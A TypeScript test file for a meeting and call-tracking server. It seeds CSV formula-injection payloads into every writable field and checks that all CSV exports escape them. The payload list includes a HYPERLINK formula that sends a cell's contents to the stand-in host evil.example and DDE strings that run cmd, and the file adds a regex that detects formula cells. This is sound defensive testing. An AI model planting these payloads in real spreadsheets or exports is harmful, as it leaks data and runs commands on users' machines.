import { parse } from "csv-parse/sync";
import { expect, test } from "vitest";
import type { FactCommand } from "../../../server/domain/command.ts";
import type { CallTypeId, KpiId } from "../../../server/domain/ids.ts";
import type { Kpi } from "../../../server/domain/kpi.ts";
import type { CallType } from "../../../server/domain/site.ts";
import { MinutesKeeper } from "../../../server/history/minutes-keeper.ts";
import { captureId, meetingId, team, withHuddles } from "../../support/huddles.ts";
import { byId, callTypeOf, loans, missing, siteOf, stuck } from "../../support/site.ts";
import { actionId, addOf, callId, deviceId, raiseOf } from "../../support/states.ts";
import { adminToken, serve } from "../http/support.ts";

/** Somebody writes a formula wherever one may write, and somebody else opens each export in a spreadsheet. */

const attacks = [
  `=HYPERLINK("http://evil.example?"&A1,"Open")`,
  "+cmd|'/c calc'!A0",
  "-2+3+cmd|'/c calc'!A0",
  "@SUM(1+1)*cmd|'/c calc'!A0",
  "\t=1+1",
  "\r=1+1",
  '"=1+1',
  "＝1+1",
  "x;=1+1",
  "x\n=1+1",
];

const mood: Kpi = {
  id: "mood" as KpiId,
  name: "Mood",
  family: "engagement",
  unit: "number",
  areas: [loans],
  zone: "Europe/Amsterdam",
  better: "more",
  target: null,
  source: { kind: "typed" },
};

/** As most see the cells, and as Excel does where decimals have a comma: it does not see our quotes then. */
function formulasIn(csv: string): string[] {
  const rows = parse(csv, { relax_quotes: true, relax_column_count: true, bom: true }) as string[][];
  const cells = [...rows.flat(), ...csv.split(/[;\t\r\n]/)];
  return cells.filter((cell) => /^[\s"]*[=+\-@＝＋－＠]/.test(cell) && !/^-?\d+(\.\d+)?$/.test(cell));
}

test("[SE19] the search finds what a spreadsheet would run", () => {
  for (const attack of attacks)
    expect([attack, formulasIn(`"${attack.replaceAll('"', '""')}"`).length > 0]).toEqual([attack, true]);
});

const queries: Readonly<Record<string, string>> = {
  "/api/v1/calls/export": "?from=2026-11-01",
  "/api/v1/audit/export.csv": "?names=true",
};

test("[SE19] no export holds a formula, whoever wrote it and wherever, the site file too", async () => {
  const [first = ""] = attacks;
  const site = {
    ...withHuddles,
    name: first,
    areas: new Map([...withHuddles.areas].map(([id, area]) => [id, { ...area, name: first }])),
    queues: new Map([...withHuddles.queues].map(([id, queue]) => [id, { ...queue, name: first }])),
    callTypes: byId<CallTypeId, CallType>([
      callTypeOf({ id: stuck, label: first, causes: new Map([[missing, first]]) }),
    ]),
    kpis: byId<KpiId, Kpi>([{ ...mood, name: first }]),
    huddles: new Map([...withHuddles.huddles].map(([id, huddle]) => [id, { ...huddle, name: first }])),
  };
  const served = await serve({ site: siteOf(site) });
  const { operations, clock, send } = served;
  const run = async (command: FactCommand) => {
    const done = await operations.run(command, { kind: "system", part: "local" });
    if (done.status !== "done") throw new Error(`${command.type}: ${JSON.stringify(done)}`);
  };
  const meeting = meetingId("m");
  await run({ type: "start-huddle", meeting, huddle: team });
  for (const [index, text] of attacks.entries()) {
    const call = callId(`c${index}`);
    await run(raiseOf({ call, callType: stuck, area: loans, queue: null, place: text, note: text }));
    await run({ type: "attend-call", call });
    await run({ type: "resolve-call", call, cause: missing, remark: text });
    await run(addOf({ action: actionId(`a${index}`), title: text, why: text, area: loans, calls: [call] }));
    await run({ type: "capture", meeting, capture: captureId(`k${index}`), kind: "decision", text });
  }
  await run({ type: "enrol-tablet", device: deviceId("d"), name: first, secret: "hash" });
  await run({ type: "set-kpi", kpi: mood.id, date: "2026-11-20", value: -3 });
  clock.time += 600_000;
  await run({ type: "end-huddle", meeting });
  await new MinutesKeeper(operations, served.store).look(clock.time);

  const { body } = await send("GET", "/api/v1/openapi.json");
  const exported = Object.entries<{ get?: { responses: Record<string, { content?: object }> } }>(body.paths)
    .filter(([, { get }]) => "text/csv" in (get?.responses["200"]?.content ?? {}))
    .map(([path]) => path);
  expect(exported.length).toBeGreaterThanOrEqual(4);
  for (const path of exported) {
    const { status, text } = await send("GET", path + (queries[path] ?? ""), { token: adminToken });
    expect([path, status, text.includes("'=HYPERLINK")]).toEqual([path, 200, true]);
    expect([path, formulasIn(text)]).toEqual([path, []]);
  }
});
